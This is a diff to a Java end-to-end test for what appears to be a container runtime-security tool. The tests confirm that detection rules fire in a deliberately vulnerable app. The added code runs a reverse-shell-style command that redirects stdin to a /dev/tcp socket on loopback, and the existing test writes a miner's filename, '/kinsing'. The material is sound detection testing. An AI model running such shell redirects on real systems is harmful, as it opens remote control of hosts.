@@ -15,6 +15,8 @@ import dev.torimono.e2e.fixture.VictimApp;
 import dev.torimono.e2e.victim.VulnerableApp;
 import java.io.IOException;
 import java.io.InputStream;
+import java.net.InetAddress;
+import java.net.ServerSocket;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.GeneralSecurityException;
@@ -35,6 +37,8 @@ import tools.jackson.databind.json.JsonMapper;
 @NeedsDocker
 class InstrumentedTaskScenario {
     private static final String RULE = "Malicious filenames written";
+    private static final String REDIRECT =
+            "Redirect STDOUT/STDIN to network connection in container";
     private static final String SECRET = "arn:aws:secretsmanager:eu-1:1:secret:torimono";
     private static final String IMAGE = "torimono/serverless-agent";
 
@@ -55,7 +59,9 @@ class InstrumentedTaskScenario {
                 VictimApp app = task.application("web");
                 assertThat(output(app, "touch /kinsing; ls /")).contains("kinsing");
                 seen(collector, task);
+                redirected(collector, app);
                 ruled(collector, app);
+                outsider(collector, task);
             }
         }
     }
@@ -76,6 +82,16 @@ class InstrumentedTaskScenario {
                 .isEqualTo("1.dkr.ecr.eu-1.amazonaws.com/shop/web");
     }
 
+    /** What the new fd stands for can only be asked of the waiting process's socket itself. */
+    private static void redirected(CollectorProcess collector, VictimApp app) throws Exception {
+        try (ServerSocket remote = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            int port = remote.getLocalPort();
+            output(app, "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec 0<&3; echo connected");
+            JsonNode event = collector.awaitEvent("ruleName = \"" + REDIRECT + "\"");
+            assertThat(event.path("content").toString()).contains("127.0.0.1:" + port);
+        }
+    }
+
     private static void ruled(CollectorProcess collector, VictimApp app) throws Exception {
         collector.call(
                 "POST",
@@ -92,6 +108,16 @@ class InstrumentedTaskScenario {
                 .contains("No such file");
         collector.awaitEvent("name = \"No malicious names\"");
         assertThat(output(app, "echo lives")).contains("lives");
+    }
+
+    /** A person's way in, past the launcher. */
+    private static void outsider(CollectorProcess collector, EcsTask task) {
+        task.container("web").execDetached("/bin/sleep", "30").check();
+        JsonNode event =
+                collector.awaitEvent("ruleName = \"Torimono internal: process runs unseen\"");
+        assertThat(event.path("content").path("fields").path("cover.program").asString(""))
+                .contains("/bin/busybox");
+        assertThat(event.path("content").toString()).contains("/bin/sleep 30");
     }
 
     /** As its head says, on a base that no registry is asked for. */
